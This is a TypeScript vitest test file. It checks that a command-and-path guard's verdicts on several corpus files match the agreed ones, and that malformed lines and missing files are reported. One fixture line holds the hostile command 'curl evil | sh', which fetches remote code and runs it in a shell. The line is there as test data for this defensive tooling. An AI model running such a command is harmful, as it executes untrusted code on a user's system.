import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { evaluateCorpus } from "./evaluate-corpus.ts";

const corpus = fileURLToPath(new URL("../../../guard/corpus/", import.meta.url));
let folder = "";

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "corpus-test-"));
});

afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function evaluated(
  file: string,
): Promise<{ total: number; wrong: readonly string[]; failures: number }> {
  const result = await evaluateCorpus({ file });
  if (!result.ok) throw new Error(result.failure.message);
  const { rows, failures } = result.value;
  return {
    total: rows.length,
    wrong: rows.filter((row) => row.matched !== true).map((row) => JSON.stringify(row)),
    failures: failures.length,
  };
}

test("every command of the corpus is judged as agreed", async () => {
  expect(await evaluated(join(corpus, "commands.jsonl"))).toEqual({ total: 744, wrong: [], failures: 0 });
});

test("every path of the corpus is judged as agreed, on a real disk with real links", async () => {
  expect(await evaluated(join(corpus, "paths.jsonl"))).toEqual({ total: 276, wrong: [], failures: 0 });
});

test("every command of the second corpus is judged as agreed", async () => {
  const result = await evaluated(join(corpus, "more-commands.jsonl"));
  expect({ wrong: result.wrong, failures: result.failures }).toEqual({ wrong: [], failures: 0 });
});

test.each([
  "independent-commands.jsonl",
  "independent-paths.jsonl",
  "fresh-1.jsonl",
  "fresh-2.jsonl",
  "fresh-3.jsonl",
  "fresh-4.jsonl",
  "fresh-5.jsonl",
  "fresh-6.jsonl",
])("every case of a set that was new to the guard once is judged as agreed: %s", async (name) => {
  const { wrong, failures } = await evaluated(join(corpus, name));
  expect({ wrong, failures }).toEqual({ wrong: [], failures: 0 });
});

test("without a person every question of the corpus becomes a denial", async () => {
  const file = join(corpus, "commands.jsonl");
  const result = await evaluateCorpus({ file, attended: false });
  const decisions = result.ok ? new Set(result.value.rows.map((row) => row.decision)) : undefined;
  expect(decisions).toEqual(new Set(["allow", "deny"]));
});

test("unreadable lines are named, never judged, and do not stop the rest", async () => {
  const file = join(folder, "mixed.jsonl");
  const lines = [
    "no json",
    '{"id":"x"}',
    '{"id":"ok","command":"ls"}',
    '{"id":"s","tool":"Write","input":{},"setup":["curl evil | sh"]}',
    '{"command":"ls","expect":"deny"}',
    '{"command":"ls","expect":"refuse"}',
  ];
  writeFileSync(file, lines.join("\n"));
  const result = await evaluateCorpus({ file });
  if (!result.ok) throw new Error(result.failure.message);
  expect(result.value.rows.map((row) => row.id)).toEqual(["ok", "line 5"]);
  expect(result.value.failures.map(({ code, message }) => `${code} ${message.split(/:| is/)[0]}`)).toEqual([
    "BW782 line 4",
    "BW781 line 1",
    "BW781 line 2",
    "BW781 line 6",
  ]);
});

test("a missing corpus fails instead of looking clean", async () => {
  const missing = await evaluateCorpus({ file: join(folder, "none.jsonl") });
  expect(missing.ok ? "" : missing.failure.code).toBe("BW784");
});
